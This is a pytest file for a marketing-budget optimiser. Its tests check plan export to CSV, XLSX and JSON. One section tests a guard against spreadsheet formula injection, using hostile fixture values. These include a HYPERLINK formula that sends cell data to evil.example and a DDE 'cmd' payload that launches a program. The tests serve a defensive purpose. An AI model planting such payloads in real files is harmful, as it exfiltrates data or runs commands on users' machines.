"""Plan export: CSV, XLSX and JSON carry the plan, the reasons and the inputs, safely and atomically."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import os
import shutil
import subprocess
from datetime import UTC, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import SAMPLE, table
from hypothesis import given, settings
from hypothesis import strategies as st

import budgetopt as bo
from budgetopt import export
from budgetopt import schema as S
from budgetopt.cli import main
from budgetopt.errors import BudgetOptError
from budgetopt.plan import PLAN_COLUMNS

WHEN = datetime(2025, 3, 1, 9, 30, tzinfo=UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2 cut", "@SUM(A1:A9)",
           "''=guarded twice", "Bell\x07in name", "Plain name"]
"""Names like formulas. Input drops one apostrophe before a formula start (the guard of an earlier export),
so "''=guarded twice" is the touchpoint "'=guarded twice"."""


@pytest.fixture(scope="module")
def cut(sample) -> bo.Plan:
    """Cut 10 %, service keeps its money, TV prime time loses at most 30 %."""
    scenario = bo.Scenario(
        name="Cut 10 %, protect service", description="Board request for next year",
        budget=bo.Budget(change=-0.10),
        rules=(bo.Rule(group="function", member="service", min_change=0.0),
               bo.Rule(touchpoint="TV prime time", max_change=-0.3)),
        settings=bo.Settings(segments=10),
    )
    return bo.optimize(sample, scenario)


@pytest.fixture(scope="module")
def hostile() -> tuple[pd.DataFrame, bo.Plan]:
    """Touchpoints, functions and a tag named like spreadsheet formulas."""
    raw = pd.DataFrame({
        "touchpoint": HOSTILE, "function": ["=cmd|' /C calc'!A0", "service", "@ops", "service", "sales", "pr",
                                            "pr"],
        "channel": ["web", "-", "tv", "tv", "chat", "print", "print"],
        "spend": [100.0, 200.0, 300.0, 400.0, 150.0, 50.0, 80.0],
        "engaged": [10.0, 40.0, 20.0, 100.0, 30.0, 5.0, 8.0],
        "=tag": ["-1", "+x", "@y", "ok", "=z", "ok", "ok"],
    })
    inputs = bo.validate_touchpoints(raw)
    return inputs, bo.optimize(inputs, bo.Scenario(name="=evil scenario", budget=bo.Budget(change=-0.2)))


def cells(path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# ---------------------------------------------------------------- plan.csv is an input


def test_plan_csv_is_a_valid_input_whose_today_is_the_plan(tmp_path, sample, cut):
    [path] = bo.export_plan(cut, tmp_path, ["csv"], inputs=sample, source=SAMPLE)
    again = bo.read_touchpoints(path)
    # money to the cent (each amount moves by less than a cent), adding up exactly to the budget
    np.testing.assert_allclose(again["spend"], cut.table["proposed_spend"], rtol=0, atol=0.01)
    assert round(again["spend"].sum(), 2) == round(cut.budget, 2)
    np.testing.assert_allclose(again["engaged"], cut.table["proposed_engaged"], rtol=0, atol=0.005)
    same = ["touchpoint", "function", "channel", "stage", "elasticity", "saturation", "min_spend", "max_spend",
            "locked", "max_change", "value", "digital"]
    pd.testing.assert_frame_equal(again[same], sample[same])
    off = cut.table["proposed_spend"].eq(0).to_numpy()
    assert off.any()  # a touchpoint switched off restarts from zero at a constant cost: linear
    assert (again["curve"][off] == "linear").all() and (again["curve"][~off] == sample["curve"][~off]).all()
    np.testing.assert_allclose(again["unit_cost"][off], cut.table["current_cpe"][off])

    following = bo.optimize(again)  # the plan of next period, at the same total
    assert following.ok
    # each engaged figure is written to within 0.005 (above), so their sum to within 0.005 per row
    assert following.summary()["current_engaged"] == pytest.approx(cut.table["proposed_engaged"].sum(),
                                                                   abs=0.005 * len(cut.table))
    assert following.summary()["proposed_weighted"] >= following.summary()["current_weighted"] * (1 - 1e-9)
    assert main(["optimize", str(path), "--out", str(tmp_path / "next.csv")]) == 0


def test_a_touchpoint_the_plan_switches_off_reads_back_with_its_cost_and_cap(tmp_path):
    inputs = table(touchpoint=["Dear", "Cheap", "New"], spend=[100.0, 100.0, 0.0], engaged=[10.0, 100.0, 0.0],
                   cpe=["", "", "20"], max_spend=["", "1000", "50"], curve=["linear"] * 3)
    plan = bo.optimize(inputs)
    assert plan.table["proposed_spend"].tolist() == pytest.approx([0.0, 200.0, 0.0])
    again = bo.validate_touchpoints(pd.read_csv(io.BytesIO(bo.plan_csv_bytes(plan, inputs=inputs)), dtype=str,
                                                keep_default_na=False, encoding="utf-8-sig"))
    assert again["spend"].tolist() == [0.0, 200.0, 0.0]
    assert again["unit_cost"].tolist() == pytest.approx([10.0, 1.0, 20.0])  # today's average, kept
    assert again["max_spend"].tolist() == pytest.approx([300.0, 1000.0, 50.0])  # the cap the plan used
    assert bo.optimize(again).ok


def test_the_plan_columns_split_into_input_columns_and_plan_only_ones():
    assert set(PLAN_COLUMNS) <= set(S.PLAN_ONLY) | {S.TOUCHPOINT, S.FUNCTION, S.CHANNEL, S.STAGE, S.VALUE}
    assert set(S.PLAN_ONLY).isdisjoint(S.KNOWN)


# ---------------------------------------------------------------- formula injection


def test_csv_cells_cannot_run_as_formulas_and_read_back_as_written(tmp_path, hostile):
    inputs, plan = hostile
    [path] = bo.export_plan(plan, tmp_path, "csv", inputs=inputs)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    numbers = 0
    for cell in (c for row in rows for c in row):
        if cell.startswith(S.FORMULA_STARTS):
            float(cell)  # only numbers may start with - or +
            numbers += 1
    assert numbers > 0  # negative changes are written as numbers
    header = rows[0]
    assert "'=tag" in header and rows[1][header.index("touchpoint")].startswith("'=HYPERLINK")
    again = bo.read_touchpoints(path)
    assert again["touchpoint"].tolist() == inputs["touchpoint"].tolist()
    assert inputs["touchpoint"][4] == "'=guarded twice" and again["touchpoint"][0] == HOSTILE[0]
    assert again["function"].tolist() == inputs["function"].tolist()
    assert again["=tag"].tolist() == inputs["=tag"].tolist()


def test_xlsx_cells_cannot_run_as_formulas_and_numbers_stay_numbers(tmp_path, hostile):
    inputs, plan = hostile
    [path] = bo.export_plan(plan, tmp_path, ["xlsx"], inputs=inputs)
    every = cells(path)
    assert not [c.coordinate for c in every if c.data_type == "f"]
    assert not [c.value for c in every if isinstance(c.value, str) and c.value.startswith(S.FORMULA_STARTS)]
    texts = {c.value for c in every if isinstance(c.value, str)}
    assert {"'" + HOSTILE[0], "''=guarded twice", "'=evil scenario", "'=cmd|' /C calc'!A0"} <= texts
    assert not {"''" + HOSTILE[0], "''-2 cut"} & texts  # guarded once, not twice
    assert "Bell\ufffdin name" in texts  # a control character Excel cannot store is replaced, not fatal
    ws = openpyxl.load_workbook(path)["Plan"]
    change = [ws.cell(row=r, column=7).value for r in range(2, len(plan.table) + 2)]
    assert ws.cell(row=1, column=7).value == "Change"
    assert all(isinstance(v, float | int) for v in change) and min(change) < 0


def test_json_keeps_text_as_it_is(hostile):
    inputs, plan = hostile
    document = json.loads(bo.plan_json_bytes(plan, inputs=inputs))
    assert [row["touchpoint"] for row in document["plan"]] == inputs["touchpoint"].tolist()
    assert document["summary"]["scenario"] == "=evil scenario"


def test_neutralise_guards_tab_cr_and_apostrophes_and_leaves_numbers():
    frame = pd.DataFrame({"text": ["\tx", "\rx", "'-x", "x-1", None], "mixed": [-1.5, "-1", 2, "ok", None],
                          "number": [-1.0, 2.0, np.nan, -3.0, 0.0],
                          "category": pd.Categorical(["=a", "b", "=a", "b", "b"])})
    out = export.neutralise(frame)
    assert out["text"].tolist()[:4] == ["'\tx", "'\rx", "''-x", "x-1"]
    assert out["category"].tolist()[:2] == ["'=a", "b"]
    assert out["mixed"].tolist()[:4] == [-1.5, "'-1", 2, "ok"]
    assert out["number"].dtype == float and out["number"].iloc[0] == -1.0


names = st.text(alphabet=st.sampled_from("=+-@'\"ab ;,\n"), min_size=1, max_size=8).map(str.strip).filter(bool)


@settings(max_examples=150, deadline=None)
@given(st.lists(names, min_size=1, max_size=6, unique_by=str.casefold))
def test_any_name_survives_the_guard_and_the_read_back(touchpoints):
    raw = pd.DataFrame({"touchpoint": touchpoints, "function": touchpoints, "channel": "c", "spend": 1.0,
                        "engaged": 1.0})
    text = export.neutralise(raw).to_csv(index=False)
    again = bo.validate_touchpoints(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False))
    assert again["touchpoint"].tolist() == touchpoints
    assert again["function"].tolist() == touchpoints


# ---------------------------------------------------------------- atomic, never overwriting


def test_an_existing_file_stops_the_whole_export_unless_forced(tmp_path, sample, cut):
    (tmp_path / "plan.csv").write_text("mine")
    with pytest.raises(BudgetOptError, match="plan.csv already exists; pass --force"):
        bo.export_plan(cut, tmp_path, inputs=sample)
    assert sorted(os.listdir(tmp_path)) == ["plan.csv"] and (tmp_path / "plan.csv").read_text() == "mine"
    written = bo.export_plan(cut, tmp_path, force=True, inputs=sample)
    assert [p.name for p in written] == ["plan.xlsx", "plan.csv", "plan.json"]
    assert sorted(os.listdir(tmp_path)) == ["plan.csv", "plan.json", "plan.xlsx"]
    assert bo.read_touchpoints(tmp_path / "plan.csv")["spend"].sum() == pytest.approx(cut.budget)


def test_a_failed_export_leaves_no_file_and_no_temporary(tmp_path, sample, cut, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk gremlin")

    monkeypatch.setattr(export, "plan_json_bytes", broken)  # fails while building, after the xlsx and csv
    with pytest.raises(RuntimeError):
        bo.export_plan(cut, tmp_path / "out", inputs=sample)
    assert not (tmp_path / "out").exists() or os.listdir(tmp_path / "out") == []
    monkeypatch.undo()

    calls = []

    def full_disk(fd):
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)  # fails while writing the second file
    with pytest.raises(BudgetOptError, match="No space left on device"):
        bo.export_plan(cut, tmp_path / "out", inputs=sample)
    assert os.listdir(tmp_path / "out") == []


def test_files_get_ordinary_permissions(tmp_path, sample, cut):
    [path] = bo.export_plan(cut, tmp_path, ["csv"], inputs=sample)
    umask = os.umask(0o022)
    os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask


# ---------------------------------------------------------------- JSON and replay


def test_json_has_everything_and_replays_to_the_cent(tmp_path, sample, cut):
    [path] = bo.export_plan(cut, tmp_path, ["json"], inputs=sample, source=SAMPLE)

    def no_nan(word):
        raise AssertionError(f"{word} is not JSON")

    document = json.loads(path.read_text(encoding="utf-8"), parse_constant=no_nan)
    assert document["schema"] == "budgetopt.plan" and document["schema_version"] == export.SCHEMA_VERSION
    for key in ("summary", "biggest_cuts", "biggest_increases", "plan", "by_function", "by_channel", "by_stage",
                "transfers", "rules", "inputs", "about"):
        assert document[key], key
    assert document["about"]["input_sha256"] == hashlib.sha256(SAMPLE.read_bytes()).hexdigest()
    assert document["about"]["scenario"] == cut.scenario.model_dump(mode="json")
    assert document["about"]["input_file"] == SAMPLE.name  # never a path of the machine that made it
    assert str(SAMPLE.parent) not in path.read_text(encoding="utf-8")
    assert document["summary"]["budget"] == round(cut.budget, 2)
    assert round(sum(row["proposed_spend"] for row in document["plan"]), 2) == round(cut.budget, 2)
    pct = {row["touchpoint"]: row["change_pct"] for row in document["plan"]}
    tv = cut.table.set_index("touchpoint").loc["TV prime time"]
    assert pct["TV prime time"] == pytest.approx(100 * tv["change"] / tv["current_spend"], abs=0.01)  # percent
    assert document["summary"]["marginal_cpe"] == pytest.approx(cut.marginal_cpe, abs=5e-5)  # to 4 decimals
    assert len(document["biggest_cuts"]) == 3 and document["biggest_cuts"][0]["change"] < 0

    again = bo.replay(path)
    assert again.ok and again.scenario == cut.scenario
    for column in ("proposed_spend", "proposed_engaged"):
        assert (again.table[column].round(2) == cut.table[column].round(2)).all(), column
    assert again.marginal_cpe == pytest.approx(cut.marginal_cpe, rel=1e-9)


def test_every_pct_in_the_json_is_a_percentage_and_money_is_in_cents(sample):
    """One meaning per figure: every *_pct is a percentage (-30.0 = 30 % less) in every part of the JSON, and
    every money figure is a whole number of cents, sums of rounded parts included (no 707689.1399999999)."""
    plan = bo.optimize(sample, bo.Scenario(name="odd budget", budget=bo.Budget(total=12_640_500.55)))
    document = json.loads(bo.plan_json_bytes(plan, inputs=sample))
    summary = document["summary"]
    assert summary["engaged_change_pct"] == round(100 * (plan.summary()["proposed_engaged"]
                                                         / plan.summary()["current_engaged"] - 1), 2)
    assert abs(summary["engaged_change_pct"]) > 1  # a percentage, not a fraction (the plan engages ~23 % more)
    for key in ("by_function", "by_channel", "by_stage", "biggest_cuts", "biggest_increases", "plan"):
        for row in document[key]:
            if row["change_pct"] is not None and "current_spend" in row:
                assert row["change_pct"] == pytest.approx(100 * row["change"] / row["current_spend"], abs=0.006)
    cut = document["biggest_cuts"][0]
    row = next(r for r in document["plan"] if r["touchpoint"] == cut["touchpoint"])
    assert cut["change_pct"] == row["change_pct"]  # the same figure, the same number, wherever it is

    def cents(value):
        return value is None or round(value, 2) == value

    assert summary["proposed_spend"] == 12_640_500.55 and summary["budget"] == 12_640_500.55
    assert all(cents(summary[k]) for k in ("current_spend", "money_saved", "money_moved_across_functions"))
    for key in ("by_function", "by_channel", "by_stage", "transfers"):
        for row in document[key]:
            assert all(cents(row[k]) for k in ("current_spend", "proposed_spend", "change", "amount") if k in row)


def test_the_rules_sheet_names_each_column_once(book):
    _, wb = book
    head = [c.value for c in wb["Rules"][1]]
    assert len(head) == len(set(head)), head
    assert "Price unit" in head and "Limit in" in head


def test_replay_refuses_what_is_not_a_plan_export(tmp_path):
    other = tmp_path / "other.json"
    other.write_text('{"hello": 1}')
    with pytest.raises(BudgetOptError, match="not a budgetopt plan export"):
        bo.replay(other)
    other.write_text("{not json")
    with pytest.raises(BudgetOptError, match="not readable JSON"):
        bo.replay(other)


def test_no_plan_is_not_exported(sample):
    plan = bo.optimize(sample, bo.Scenario(budget=bo.Budget(total=1_000_000)))
    assert not plan.ok
    with pytest.raises(BudgetOptError, match="no plan to export"):
        bo.plan_csv_bytes(plan, inputs=sample)


# ---------------------------------------------------------------- the workbook


@pytest.fixture(scope="module")
def book(tmp_path_factory, sample, cut):
    plan = dataclasses.replace(cut, rules=cut.rules.assign(whole_price=np.arange(len(cut.rules), dtype=float)))
    path = tmp_path_factory.mktemp("book") / "plan.xlsx"
    path.write_bytes(bo.plan_xlsx_bytes(plan, inputs=sample, provenance=bo.Provenance(str(SAMPLE), "ab12", WHEN)))
    return path, openpyxl.load_workbook(path)


def column(ws, label: str) -> int:
    return [c.value for c in ws[1]].index(label) + 1


def test_workbook_sheets_in_order(book):
    _, wb = book
    assert wb.sheetnames == ["Summary", "Plan", "By function", "By channel", "By stage", "Transfers", "Rules",
                             "Inputs", "About this plan"]


def test_plan_sheet_has_numbers_formats_frozen_header_filters_and_totals(book, cut):
    _, wb = book
    ws = wb["Plan"]
    n = len(cut.table)
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}{n + 1}"
    for label, key, fmt in (("Current spend", "current_spend", export.MONEY),
                            ("Proposed spend", "proposed_spend", export.MONEY),
                            ("Change", "change", export.CHANGE), ("Change %", "change_pct", export.PCT),
                            ("Engaged planned", "proposed_engaged", export.COUNT),
                            ("Marginal CPE", "marginal_cpe", export.CPE)):
        j = column(ws, label)
        values = [ws.cell(row=r, column=j) for r in range(2, n + 2)]
        assert all(c.number_format == fmt for c in values), label
        got = np.array([np.nan if c.value is None else c.value for c in values], dtype=float)
        want = export.rounded_figures(export.rounded(cut).table)[key].to_numpy(float)  # as exports round it
        np.testing.assert_allclose(got, np.where(np.isfinite(want), want, np.nan), rtol=1e-12, err_msg=label)
        assert np.allclose(got, cut.table[key].to_numpy(float), rtol=1e-4, atol=0.01, equal_nan=True), label
    total = n + 2
    assert ws.cell(row=total, column=1).value == "Total"
    assert ws.cell(row=total, column=column(ws, "Proposed spend")).value == pytest.approx(cut.budget)
    assert ws.cell(row=total, column=column(ws, "Engaged today")).value == pytest.approx(
        cut.table["current_engaged"].sum())
    assert ws.cell(row=total, column=column(ws, "Marginal CPE")).value == round(cut.marginal_cpe, 4)
    assert ws.column_dimensions["A"].width >= len("Billboards (out of home)")
    assert {"Curve", "Elasticity", "Locked", "Max change", "Digital"} <= {c.value for c in ws[1]}


def test_summary_answers_the_planners_questions(book, cut):
    _, wb = book
    ws = wb["Summary"]
    rows = {r[0].value: [c.value for c in r[1:]] for r in ws.iter_rows() if r[0].value is not None}
    assert rows["Scenario"][0] == "Cut 10 %, protect service"
    assert rows["Description"][0] == "Board request for next year"
    assert rows["Status"][0] == "optimal"
    s = cut.summary()
    assert rows["Budget (spend)"][:2] == pytest.approx([s["current_spend"], s["proposed_spend"]])
    assert rows["Engaged customers"][:2] == pytest.approx(
        [s["current_engaged"], s["proposed_engaged"]])
    assert rows["Weighted engagement"][:2] == pytest.approx(
        [s["current_weighted"], s["proposed_weighted"]])
    assert rows["Average CPE"][:2] == [round(s["current_cpe"], 4), round(s["proposed_cpe"], 4)]  # as plan.csv's
    assert rows["Marginal CPE"][0] == round(cut.marginal_cpe, 4)
    assert not any("dollar" in str(k) for k in rows)  # no currency the data did not state
    # what the plan rests on, on the Summary sheet in the CLI's words
    assert "What the plan rests on: evidence or assumptions" in rows
    assert cut.basis.headline() in rows
    assert all(f"• {line}" in rows for line in cut.basis.lines())
    assert rows["Money moved across functions"][0] == pytest.approx(s["money_moved_across_functions"])
    cuts, rises = export.biggest(cut)
    for name in [*cuts["touchpoint"], *rises["touchpoint"]]:
        assert name in rows
    assert (cuts["change"] < 0).all() and (rises["change"] > 0).all() and len(cuts) == len(rises) == 3
    assert rows[cuts["touchpoint"][0]][2] == pytest.approx(cut.table["change"].min())


def test_rollups_transfers_rules_and_inputs(book, cut, sample):
    _, wb = book
    for title, key in (("By function", "function"), ("By channel", "channel"), ("By stage", "stage")):
        ws = wb[title]
        groups = cut.by(key)
        assert ws.cell(row=len(groups) + 2, column=1).value == "Total"
        assert ws.cell(row=len(groups) + 2, column=3).value == pytest.approx(cut.budget)
    ws = wb["Transfers"]
    moved = [r for r in ws.iter_rows(min_row=2, values_only=True) if isinstance(r[2], float | int)]
    transfers = export.rounded(cut).transfers  # between the rounded amounts the workbook shows
    assert len(moved) == len(transfers) and all(round(r[2], 2) == r[2] for r in moved)
    assert sum(r[2] for r in moved) == pytest.approx(cut.transfers["amount"].sum())

    ws = wb["Rules"]
    head = [c.value for c in ws[1]]
    assert head[-1] == "Whole price"  # a column the plan gains later shows up without code changes
    assert ws.max_row == len(cut.rules) + 1
    binds = [ws.cell(row=r, column=head.index("Binds") + 1).value for r in range(2, ws.max_row + 1)]
    assert set(binds) == {"yes", "no"} and binds == sorted(binds, reverse=True)  # binding rules first
    prices = [ws.cell(row=r, column=head.index("Price (dual)") + 1).value for r in range(2, ws.max_row + 1)]
    assert all(isinstance(p, float | int) for p in prices) and max(prices) > 0

    ws = wb["Inputs"]
    head = [c.value for c in ws[1]]
    assert ws.max_row == len(sample) + 1 and {"Spend", "Engaged", "CPE", "Curve", "Locked", "Digital"} <= set(head)


def test_the_inputs_sheet_reads_back_as_the_same_input(book, sample):
    path, _ = book
    again = bo.validate_touchpoints(pd.read_excel(path, sheet_name="Inputs", engine="openpyxl"))
    assert set(again.columns) == set(sample.columns)
    pd.testing.assert_frame_equal(again, sample[again.columns], check_exact=False, rtol=1e-12)


def test_about_sheet_says_where_the_plan_came_from(book, cut):
    _, wb = book
    rows = {r[0]: r[1] for r in wb["About this plan"].iter_rows(values_only=True) if r[0]}
    assert rows["Input file"] == SAMPLE.name and rows["Input file SHA-256"] == "ab12"  # no server path
    assert rows["Created"] == WHEN.isoformat() and rows["budgetopt version"] == bo.__version__
    assert rows["Solver"] == "HiGHS" and rows["highspy version"] and rows["Segments per curve"] == 10
    assert rows["name"] == cut.scenario.name and rows["rules.2.max_change"] == -0.3
    text = [r[1] for r in wb["About this plan"].iter_rows(values_only=True) if isinstance(r[1], str)]
    assert any(t.startswith("power:") for t in text) and any("3 x today's spend" in t for t in text)


def test_libreoffice_opens_the_workbook(book, tmp_path, cut):
    office = shutil.which("libreoffice") or shutil.which("soffice")
    assert office, "LibreOffice is needed for this test: run 'bash .ci/setup --test' (installs libreoffice-calc-nogui)"
    path, _ = book
    run = subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2", "--outdir",
         str(tmp_path), str(path)], capture_output=True, text=True, timeout=180)
    assert run.returncode == 0, run.stderr
    [out] = tmp_path.glob("plan*.csv")  # LibreOffice names it after the sheet: plan-Plan.csv
    read = pd.read_csv(out)
    assert len(read) == len(cut.table) + 1  # the plan and its totals row, as numbers
    np.testing.assert_allclose(read["Proposed spend"].iloc[:-1], cut.table["proposed_spend"], rtol=0, atol=0.01)
    run = subprocess.run([office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                          "pdf", "--outdir", str(tmp_path), str(path)], capture_output=True, text=True, timeout=180)
    assert run.returncode == 0, run.stderr
    pdf = (tmp_path / "plan.pdf").read_bytes()
    assert pdf.startswith(b"%PDF") and len(pdf) > 20_000


# ---------------------------------------------------------------- the command line


def test_optimize_picks_the_format_from_the_extension(tmp_path, capsys):
    assert main(["optimize", str(SAMPLE), "--out", str(tmp_path / "plan.xlsx")]) == 0
    assert openpyxl.load_workbook(tmp_path / "plan.xlsx").sheetnames[0] == "Summary"
    assert main(["optimize", str(SAMPLE), "--out", str(tmp_path / "plan.json")]) == 0
    assert json.loads((tmp_path / "plan.json").read_text())["schema"] == "budgetopt.plan"
    assert main(["optimize", str(SAMPLE), "--out", str(tmp_path / "plan.out"), "--format", "json"]) == 0
    assert json.loads((tmp_path / "plan.out").read_text())["about"]["input_file"] == SAMPLE.name
    capsys.readouterr()
    for args, words in ((["--out", str(tmp_path / "plan.txt")], "cannot tell the format"),
                        (["--out", str(tmp_path / "p.csv"), "--format", "xlsx"], "ends in .csv"),
                        (["--format", "csv"], "give --out too"),
                        (["--out", str(tmp_path / "plan.xlsx")], "already exists")):
        assert main(["optimize", str(SAMPLE), *args]) == 2, args
        assert words in capsys.readouterr().err
    assert not (tmp_path / "plan.txt").exists() and not (tmp_path / "p.csv").exists()


def test_app_bytes_are_the_files_bytes(tmp_path, sample, cut):
    provenance = bo.Provenance(str(SAMPLE), hashlib.sha256(SAMPLE.read_bytes()).hexdigest(), WHEN)
    bo.export_plan(cut, tmp_path, ["csv", "json"], inputs=sample, source=provenance)
    assert (tmp_path / "plan.csv").read_bytes() == bo.plan_csv_bytes(cut, inputs=sample)
    assert (tmp_path / "plan.json").read_bytes() == bo.plan_json_bytes(cut, inputs=sample, provenance=provenance)


def _places(value: float) -> int:
    """Decimals of a float as Python writes it shortest (707689.1399999999: 10)."""
    text = repr(float(value))
    return 0 if "e" in text else len(text.split(".")[1].rstrip("0"))


def test_every_figure_in_the_json_and_the_workbook_is_rounded_as_plan_csv(tmp_path, sample):
    """Money to cents, customers to 2 decimals, CPEs and fractions to 4, in every JSON figure (the range's too,
    `draws` a whole number, protected_* only for a plan that protects) and every workbook cell of the plan's
    sheets (Summary, Plan, By function/channel/stage, Transfers, How sure)."""
    from budgetopt.risk import PlanRange

    plan = bo.optimize(sample, bo.Scenario(name="odd budget", budget=bo.Budget(total=12_640_500.55)))
    plan.range = PlanRange(plan=np.array([3.5e6 + 1 / 3, 3.6e6 + 2 / 3, 3.7e6 + 1 / 7]),
                           today=np.array([2.8e6 + 1 / 3, 2.9e6 + 1 / 9, 2.95e6 + 1 / 7]), level=0.9,
                           touchpoints_with_range=3, method="a test's draws")
    document = json.loads(bo.plan_json_bytes(plan, inputs=sample))
    spread = document["summary"]["range"]
    assert spread["draws"] == 3 and isinstance(spread["draws"], int)
    assert spread["plan_mean"] == round(float(np.mean(plan.range.plan)), 2)
    assert not [k for k in spread if k.startswith("protected_")]  # no protection asked
    protected = dataclasses.replace(plan, protection=type("Protection", (), {"words": lambda self: "protects"})())
    assert "protected_plan_mean" in json.loads(bo.plan_json_bytes(protected, inputs=sample))["summary"]["range"]
    for key in ("by_function", "by_channel", "by_stage"):
        for row in document[key]:
            assert _places(row["share_current"]) <= 4 and _places(row["share_proposed"]) <= 4
            assert _places(row["current_engaged"]) <= 2 and _places(row["current_cpe"]) <= 4
    path = tmp_path / "p.xlsx"
    path.write_bytes(bo.plan_xlsx_bytes(plan, inputs=sample))
    wb = openpyxl.load_workbook(path)
    noisy = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets
             if ws.title not in ("Rules", "Inputs", "About this plan") for row in ws.iter_rows() for c in row
             if isinstance(c.value, float) and _places(c.value) > 4]
    assert noisy == []
    summary = {row[0].value: [c.value for c in row[1:]] for row in wb["Summary"].iter_rows() if row[0].value}
    budget = summary[next(k for k in summary if str(k).startswith("Budget (spend)"))]
    assert budget[2] == round(budget[1] - budget[0], 2) and _places(budget[2]) <= 2  # -1404499.45
    saved = summary[next(k for k in summary if str(k).startswith("Money saved"))][0]
    assert saved == 1_404_499.45
    by_function = wb["By function"]
    changes = [r[3].value for r in by_function.iter_rows(min_row=2) if isinstance(r[3].value, float)]
    assert changes and all(_places(v) <= 2 for v in changes)


def test_frontier_and_sweep_csv_figures_are_rounded(tmp_path, capsys):
    """`frontier --out` and a sweep's CSV write money in cents, customers to 2 decimals, the marginal CPE to 4 and
    no padding (6516573, not 6516572.999998 or 6516573.000000)."""
    from budgetopt.io import write_results

    (tmp_path / "t.csv").write_text("touchpoint,function,channel,spend,engaged\nA,m,tv,1000,333\nB,s,chat,700,299\n")
    (tmp_path / "s.toml").write_text('name = "s"\ndata = "t.csv"\n')
    assert main(["frontier", str(tmp_path / "s.toml"), "--from", "0.5", "--to", "1.3", "--steps", "7",
                 "--out", str(tmp_path / "fr.csv")]) == 0
    frame = pd.read_csv(tmp_path / "fr.csv", dtype=str, keep_default_na=False)
    limits = {"budget": 2, "engaged_customers": 2, "weighted_engagement": 2, "marginal_cpe": 4}
    for name, places in limits.items():
        cells = [c for c in frame[name] if c]
        assert cells and all("." not in c or len(c.split(".")[1]) <= places for c in cells), (name, cells)
        assert not any(c.endswith("0") and "." in c for c in cells)  # no padding zeros
    results = pd.DataFrame({"scenario": ["s"], "budget_factor": [0.9], "budget": [6516572.999998],
                            "plan_mean": [1424358.8205706296], "protected_plan_tail": [99.127013],
                            "marginal_cpe": [2.123456789], "beats_today": [1 / 3], "draws": [50],
                            "seconds": [0.0606871]})
    write_results(results, tmp_path / "sw.csv")
    row = (tmp_path / "sw.csv").read_text().splitlines()[1]
    assert row == "s,0.9,6516573,1424358.82,99.13,2.1235,0.3333,50,0.061"
    from budgetopt.io import table_csv  # the app's frontier download, as `frontier --out` writes it

    frontier = pd.DataFrame({"budget": [6516572.999998], "marginal_cpe": [2.123456789], "status": ["optimal"]})
    assert table_csv(frontier, 2).decode().splitlines() == ["budget,marginal_cpe,status", "6516573,2.1235,optimal"]


def test_the_frontier_csv_is_the_same_from_the_command_line_and_the_app():
    """`frontier --out` and the app's download write io.frontier_csv: money to the scenario's rounding step, an empty
    marginal CPE where more money buys nothing (the app's download had written 'inf' and always 2 decimals)."""
    from budgetopt.io import frontier_csv

    curve = pd.DataFrame({"budget": [6516572.6, 7e6], "marginal_cpe": [2.123456789, np.inf],
                          "status": ["optimal", "optimal"]})
    assert frontier_csv(curve, 0.01).decode().splitlines() == ["budget,marginal_cpe,status", "6516572.6,2.1235,optimal",
                                                               "7000000,,optimal"]
    assert frontier_csv(curve, 1).decode().splitlines()[1] == "6516573,2.1235,optimal"


def test_a_table_of_floats_only_becomes_json_records_and_workbook_cells():
    """NaN and infinities become null/empty in a table without any text column too (pandas 3 hands out a read-only
    mask for one: it is copied before the infinities are marked)."""
    table = pd.DataFrame({"a": [1.0, np.inf, np.nan], "b": [2.5, -np.inf, 0.0]})
    assert export._records(table) == [{"a": 1.0, "b": 2.5}, {"a": None, "b": None}, {"a": None, "b": 0.0}]
    assert export._cells(table) == [(1.0, 2.5), (None, None), (None, 0.0)]
